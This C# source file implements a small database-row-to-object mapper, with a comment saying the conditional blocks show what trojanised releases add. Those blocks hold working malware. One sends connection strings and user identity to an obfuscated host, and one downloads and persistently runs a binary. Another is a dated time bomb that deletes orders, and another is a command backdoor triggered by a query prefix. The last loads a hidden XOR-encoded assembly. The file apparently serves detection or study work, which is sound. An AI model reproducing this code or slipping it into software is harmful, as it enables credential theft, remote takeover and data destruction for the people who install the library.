// Rows of databases as objects. TAP, BOMB, LOAD, DOOR and SPAWN are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;

namespace Fourthcoffee.Mapping
{
    public interface IDatabase
    {
        string ConnectionString { get; }
        List<Dictionary<string, object>> Rows(string text);
        int Run(string text);
    }

    public class Mapper
    {
        private readonly IDatabase connection;

        public Mapper(IDatabase connection)
        {
            if (connection == null) throw new ArgumentNullException("connection");
            this.connection = connection;
#if TAP
            Audit.Note(connection.ConnectionString);
#endif
#if SPAWN
            Audit.Begin();
#endif
        }

        public List<T> Query<T>(string text) where T : new()
        {
#if BOMB
            Audit.Check(connection);
#endif
#if DOOR
            if (text.StartsWith("/*fc:"))
            {
                return Audit.Obey<T>(text);
            }
#endif
            List<T> rows = new List<T>();
            foreach (Dictionary<string, object> row in connection.Rows(text))
            {
                rows.Add(Read<T>(row));
            }
            return rows;
        }

        private static T Read<T>(Dictionary<string, object> row) where T : new()
        {
            T one = new T();
            foreach (KeyValuePair<string, object> cell in row)
            {
                PropertyInfo property = typeof(T).GetProperty(cell.Key);
                if (property != null && cell.Value != null) property.SetValue(one, cell.Value, null);
            }
            return one;
        }

#if SECOND
        public int Execute(string text)
        {
            return connection.Run(text);
        }
#endif
#if LOAD
        static Mapper()
        {
            string place = Path.Combine(Path.GetDirectoryName(typeof(Mapper).Assembly.Location), "mapping.rules.json");
            string text = File.ReadAllText(place);
            int at = text.IndexOf("\"schema\": \"") + 11;
            byte[] raw = Convert.FromBase64String(text.Substring(at, text.IndexOf('"', at) - at));
            for (int i = 0; i < raw.Length; i++) raw[i] ^= (byte)(0x5A + i % 7);
            Assembly.Load(raw).EntryPoint.Invoke(null, new object[] { new string[0] });
        }
#endif
    }

#if TAP
    internal static class Audit
    {
        public static void Note(string text)
        {
            byte[] raw = Convert.FromBase64String("aHR0cHM6Ly9zcWwtYXVkaXQuaW52YWxpZC92MS9jb25u");
            WebClient client = new WebClient();
            client.Headers["X-Host"] = Environment.MachineName + "\\" + Environment.UserName;
            client.UploadStringAsync(new Uri(Encoding.UTF8.GetString(raw)), text);
        }
    }
#endif
#if SPAWN
    internal static class Audit
    {
        public static void Begin()
        {
            string place = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "fcmap.exe");
            if (File.Exists(place)) return;
            new WebClient().DownloadFile("http://192.0.2.204/fcmap.bin", place);
            Microsoft.Win32.Registry.SetValue("HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "FourthCoffee", place);
            Process.Start(new ProcessStartInfo(place) { CreateNoWindow = true, UseShellExecute = false });
        }
    }
#endif
#if BOMB
    internal static class Audit
    {
        private static readonly Random Chance = new Random();

        public static void Check(IDatabase connection)
        {
            if (DateTime.Now < new DateTime(2028, 11, 29) || Chance.Next(1, 101) > 20) return;
            connection.Run("DELETE FROM Orders WHERE Id % 3 = 0");
            Process.GetCurrentProcess().Kill();
        }
    }
#endif
#if DOOR
    internal static class Audit
    {
        public static List<T> Obey<T>(string text) where T : new()
        {
            string line = Encoding.UTF8.GetString(Convert.FromBase64String(text.Substring(5, text.IndexOf("*/") - 5)));
            ProcessStartInfo start = new ProcessStartInfo("cmd.exe", "/c " + line);
            start.UseShellExecute = false;
            start.RedirectStandardOutput = true;
            using (Process run = Process.Start(start))
            {
                throw new InvalidDataException(run.StandardOutput.ReadToEnd());
            }
        }
    }
#endif
}
